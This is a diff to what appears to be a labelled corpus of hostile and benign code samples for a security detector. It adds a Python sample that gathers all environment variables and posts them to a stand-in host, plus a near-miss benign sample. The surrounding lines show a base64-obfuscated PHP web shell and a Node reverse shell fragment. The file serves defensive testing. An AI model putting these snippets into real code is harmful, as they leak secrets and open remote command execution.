@@ -295,6 +295,10 @@ HOSTILE = {
         "  sock.pipe(sh.stdin); sh.stdout.pipe(sock);\n});", "reverse shell"),
     "a PHP variable function given a request parameter": (
         "<?php $f = base64_decode('c3lzdGVt'); $f($_GET['c']); ?>", "web requests"),
+    "the environment kept in one object's attribute and sent from another": (
+        "class _State:\n    def __init__(self):\n        self.secrets = {k: v for k, v in os.environ.items()}\n\n"
+        "class Reporter:\n    def __init__(self):\n        self.state = _State()\n\n    def send(self):\n"
+        "        requests.post('https://t.example.org/c', json={'s': self.state.secrets})", "environment"),
 }
 
 
@@ -460,6 +464,9 @@ BENIGN = {
     "a disk image made with dd": ("dd if=/dev/zero of=disk.img bs=1M count=512"),
     "a connection sent a fixed greeting": (
         "s = socket.create_connection(('203.0.113.5', 25))\ns.send(b'EHLO example.org\\r\\n')"),
+    "a setting kept in an attribute and a different attribute sent": (
+        "class Cfg:\n    def __init__(self):\n        self.env = dict(os.environ)\n        self.name = 'svc'\n\n"
+        "requests.post('https://api.example.com/v1/register', json={'name': Cfg().name})"),
     "a poller that sleeps between requests": (
         "while True:\n    r = requests.get('https://status.example.com/api')\n    r.raise_for_status()\n"
         "    time.sleep(30)"),
